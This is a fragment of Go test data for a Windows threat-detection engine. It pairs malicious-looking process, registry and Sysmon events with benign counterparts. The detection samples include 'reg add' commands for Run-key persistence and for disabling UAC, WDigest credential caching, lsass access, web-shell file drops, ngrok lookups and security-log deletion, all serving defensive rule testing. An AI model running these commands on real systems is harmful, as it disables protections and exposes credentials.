	cmds(902235, []string{`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d C:\a.exe`, `reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Policies\System /v EnableLUA /t REG_DWORD /d 0`}, []string{`reg add HKCU\Software\App /v a /d 1`, `reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run`}),

	// process starts: parent and child
	eg(902240, started(office, sys32+"cmd.exe"), then(started(office, `C:\Windows\splwow64.exe`), started(`C:\Windows\explorer.exe`, sys32+"cmd.exe"))),
	eg(902241, started4688(office, sys32+"cmd.exe"), started4688(`C:\Windows\explorer.exe`, sys32+"cmd.exe")),
	eg(902242, started(iis, sys32+"cmd.exe"), started(iis, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`)),
	eg(902243, started4688(iis, sys32+"cmd.exe"), started4688(iis, `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\csc.exe`)),
	eg(902244, started(`C:\Windows\explorer.exe`, `C:\ProgramData\svchost.exe`), started(sys32+"services.exe", sys32+"svchost.exe")),
	eg(902245, started4688(`C:\Windows\explorer.exe`, `C:\ProgramData\lsass.exe`), started4688(sys32+"wininit.exe", sys32+"lsass.exe")),
	eg(902246, started(`C:\Windows\explorer.exe`, `C:\Users\bob\a.exe`, "OriginalFileName=PowerShell.EXE"), started(`C:\Windows\explorer.exe`, sys32+`WindowsPowerShell\v1.0\powershell.exe`, "OriginalFileName=PowerShell.EXE")),
	eg(902247, started(sys32+`wbem\WmiPrvSE.exe`, sys32+"cmd.exe"), started(sys32+`wbem\WmiPrvSE.exe`, sys32+"msiexec.exe")),

	// Sysmon
	eg(902300, sysmon(3, `Image=C:\Program Files\App\a.exe`, "Initiated=true", "DestinationIp=203.0.113.9", "DestinationPort=443"), sysmon(5, `Image=C:\a.exe`)),
	eg(902301, sysmon(3, "Image="+sys32+"rundll32.exe", "Initiated=true", "DestinationIp=203.0.113.9", "DestinationPort=443"), then(sysmon(3, "Image="+sys32+"rundll32.exe", "Initiated=true", "DestinationIp=10.1.0.5", "DestinationPort=443"), sysmon(3, "Image="+sys32+"rundll32.exe", "Initiated=false", "DestinationIp=203.0.113.9"))),
	eg(902302, sysmon(3, `Image=C:\Users\bob\a.exe`, "Initiated=true", "DestinationIp=203.0.113.9", "DestinationPort=4444"), sysmon(3, `Image=C:\Users\bob\a.exe`, "Initiated=true", "DestinationIp=203.0.113.9", "DestinationPort=443")),
	eg(902303, sysmon(4, "State=Stopped"), sysmon(4, "State=Started")),
	eg(902304, sysmon(16, `Configuration=C:\a.xml`), sysmon(4, "State=Started")),
	eg(902305, sysmon(6, `ImageLoaded=C:\a.sys`, "Signed=false"), sysmon(6, `ImageLoaded=C:\a.sys`, "Signed=true")),
	eg(902306, sysmon(7, "Image="+sys32+"lsass.exe", `ImageLoaded=C:\a.dll`, "Signed=false"), sysmon(7, "Image="+sys32+"lsass.exe", `ImageLoaded=C:\a.dll`, "Signed=true")),
	eg(902307, sysmon(7, "Image=C:\\a.exe", `ImageLoaded=C:\Users\Public\a.dll`, "Signed=false"), sysmon(7, "Image=C:\\a.exe", `ImageLoaded=C:\Program Files\App\a.dll`, "Signed=false")),
	eg(902308, sysmon(8, `SourceImage=C:\Users\bob\a.exe`, `TargetImage=C:\Windows\explorer.exe`), sysmon(8, "SourceImage="+sys32+"csrss.exe", `TargetImage=C:\Windows\explorer.exe`)),
	eg(902309, sysmon(8, `SourceImage=C:\Users\bob\a.exe`, "TargetImage="+sys32+"lsass.exe"), sysmon(8, `SourceImage=C:\Users\bob\a.exe`, `TargetImage=C:\Windows\explorer.exe`)),
	eg(902310, sysmon(10, `SourceImage=C:\Users\bob\a.exe`, "TargetImage="+sys32+"lsass.exe", "GrantedAccess=0x1410"), then(sysmon(10, "SourceImage="+sys32+"svchost.exe", "TargetImage="+sys32+"lsass.exe", "GrantedAccess=0x1410"), sysmon(10, `SourceImage=C:\Users\bob\a.exe`, "TargetImage="+sys32+"lsass.exe", "GrantedAccess=0x1000"))),
	eg(902311, sysmon(11, `Image=C:\a.exe`, `TargetFilename=C:\Users\bob\a.txt`), sysmon(5, `Image=C:\a.exe`)),
	eg(902312, sysmon(11, `Image=C:\a.exe`, `TargetFilename=C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk`), sysmon(11, `Image=C:\a.exe`, `TargetFilename=C:\Users\bob\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\a.lnk`)),
	eg(902313, sysmon(11, "Image="+office, `TargetFilename=C:\Users\bob\a.exe`), sysmon(11, "Image="+office, `TargetFilename=C:\Users\bob\a.docx`)),
	eg(902314, sysmon(11, "Image="+iis, `TargetFilename=C:\inetpub\wwwroot\up\a.aspx`), sysmon(11, "Image="+iis, `TargetFilename=C:\inetpub\wwwroot\up\a.jpg`)),
	eg(902315, sysmon(13, "EventType=SetValue", `TargetObject=HKLM\SOFTWARE\App\a`, "Details=1"), sysmon(11, `Image=C:\a.exe`, `TargetFilename=C:\a.txt`)),
	eg(902316, sysmon(13, "EventType=SetValue", `TargetObject=HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\App`, `Details="C:\Program Files\App\a.exe"`), sysmon(12, "EventType=CreateKey", `TargetObject=HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\App`)),
	eg(902317, sysmon(13, "EventType=SetValue", `TargetObject=HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\App`, `Details=C:\Users\Public\a.exe`), sysmon(13, "EventType=SetValue", `TargetObject=HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\App`, `Details=C:\Program Files\App\a.exe`)),
	eg(902318, sysmon(13, "EventType=SetValue", "Image=C:\\a.exe", `TargetObject=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\Shell`, "Details=a.exe"), sysmon(13, "EventType=SetValue", "Image=C:\\a.exe", `TargetObject=HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon\LastUsedUsername`, "Details=bob")),
	eg(902319, sysmon(13, "EventType=SetValue", "Image=C:\\a.exe", `TargetObject=HKLM\System\CurrentControlSet\Control\SecurityProviders\WDigest\UseLogonCredential`, "Details=DWORD (0x1)"), sysmon(13, "EventType=SetValue", `Image=C:\Program Files\Windows Defender\MsMpEng.exe`, `TargetObject=HKLM\SOFTWARE\Microsoft\Windows Defender\DisableAntiSpyware`, "Details=DWORD (0x0)")),
	eg(902320, sysmon(17, `Image=C:\a.exe`, `PipeName=\msagent_4f`), sysmon(17, `Image=C:\a.exe`, `PipeName=\spoolss`)),
	eg(902321, sysmon(20, "Name=upd", "Destination=cmd.exe"), sysmon(22, `Image=C:\a.exe`, "QueryName=example.org")),
	eg(902322, sysmon(22, `Image=C:\a.exe`, "QueryName=example.org"), sysmon(5, `Image=C:\a.exe`)),
	eg(902323, sysmon(22, `Image=C:\a.exe`, "QueryName=x1.ngrok.io"), then(sysmon(22, `Image=C:\Program Files\Mozilla Firefox\firefox.exe`, "QueryName=pastebin.com"), sysmon(22, `Image=C:\a.exe`, "QueryName=notpastebin.com.example.org"))),
	eg(902324, sysmon(23, `Image=C:\a.exe`, `TargetFilename=C:\Windows\System32\winevt\Logs\Security.evtx`), sysmon(23, `Image=C:\a.exe`, `TargetFilename=C:\Users\bob\a.txt`)),
	eg(902325, sysmon(25, `Image=C:\Users\bob\a.exe`, "Type=Image is replaced"), sysmon(25, `Image=C:\Program Files\Google\Chrome\Application\chrome.exe`, "Type=Image is replaced")),
	eg(902326, sysmon(255, "Description=queue"), sysmon(5, "Description=queue")),
	eg(902327, sysmon(9, `Image=C:\Users\bob\a.exe`, `Device=\Device\HarddiskVolume2`), sysmon(9, "Image="+sys32+"svchost.exe", `Device=\Device\HarddiskVolume2`)),
}
